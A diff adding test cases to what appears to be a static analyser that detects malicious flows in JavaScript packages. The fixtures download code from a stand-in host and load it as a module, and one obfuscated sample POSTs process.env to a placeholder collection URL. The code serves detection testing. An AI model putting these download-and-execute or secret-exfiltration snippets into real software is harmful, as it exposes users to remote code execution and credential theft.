@@ -234,6 +234,23 @@ void send(process.env!);`;
     }
   });
 
+  it('takes the settings of a project for its own, whatever says where it is, unless they were written there', () => {
+    const run = (then: string): readonly string[] =>
+      flowsIn(
+        analyseIndex(
+          `const h = require('https'), fs = require('fs'), path = require('path'); h.get('https://cdn.invalid/p', (r) => { let d = ''; r.on('data', (c) => { d += c; }).on('end', () => {
+          const at = (name) => path.join(process.cwd(), JSON.parse(d).folder, name); ${then} }); });`,
+        ),
+      );
+    assert.deepEqual(run(`require(at('some.config.js'))`), []);
+    for (const then of [
+      `require(at('some.js'))`,
+      `require(at(d))`,
+      `fs.writeFileSync(at('some.config.js'), d); require(at('some.config.js'))`,
+    ])
+      assert.deepEqual(run(then), ['downloaded>loaded-as-module import'], then);
+  });
+
   it('turns the tables of an obfuscator until they fit', () => {
     const code = `(function(a,b){const c=_0x2;const d=a();while(!![]){try{const e=parseInt(c(0x1))/0x1+-parseInt(c(0x2))/0x2;if(e===b)break;else d['push'](d['shift']());}catch(f){d['push'](d['shift']());}}}(_0x1,0x5));function _0x1(){const g=['10x','https://collect.invalid','stringify','15x','20x'];_0x1=function(){return g;};return _0x1();}function _0x2(h,i){return _0x1()[h];}fetch(_0x2(0x4),{'method':'POST','body':JSON[_0x2(0x0)](process['env'])});`;
     const facts = analyseIndex(code);
